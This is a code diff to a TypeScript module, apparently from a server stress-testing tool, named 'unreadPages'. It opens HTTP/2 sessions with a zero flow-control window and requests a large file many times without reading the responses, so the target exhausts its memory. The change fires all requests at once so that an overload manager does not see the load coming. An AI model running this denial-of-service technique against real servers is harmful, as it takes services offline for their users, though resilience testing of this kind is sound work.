@@ -1,4 +1,5 @@
 /** Large answers that are asked for and never read: whoever keeps them for the caller runs out of memory. */
+import type { ClientHttp2Session } from 'node:http2';
 import { type Attack, forEachConnection } from './attack.ts';
 import { openSession } from './sockets.ts';
 
@@ -9,10 +10,15 @@ export const unreadPages: Attack = {
   short: { connections: 4, perConnection: 100 },
   holdMs: 15_000,
   async run({ target, size, tally, signal }) {
+    // All at once, when every connection is there: what comes bit by bit an overload manager sees coming.
+    const sessions: ClientHttp2Session[] = [];
     await forEachConnection(size, async (index) => {
       const session = await openSession(target, index, { initialWindowSize: 0 }).catch(() => undefined);
       if (session === undefined) return tally.add('refused connection', 0);
       signal.addEventListener('abort', () => session.destroy());
+      sessions.push(session);
+    });
+    for (const session of sessions) {
       for (let count = 0; count < size.perConnection; count += 1) {
         const end = tally.start();
         const stream = session.request({ ':path': '/docs/swagger-ui-bundle.js' });
@@ -20,6 +26,6 @@ export const unreadPages: Attack = {
         stream.on('error', () => undefined);
         stream.on('close', () => end('closed'));
       }
-    });
+    }
   },
 };
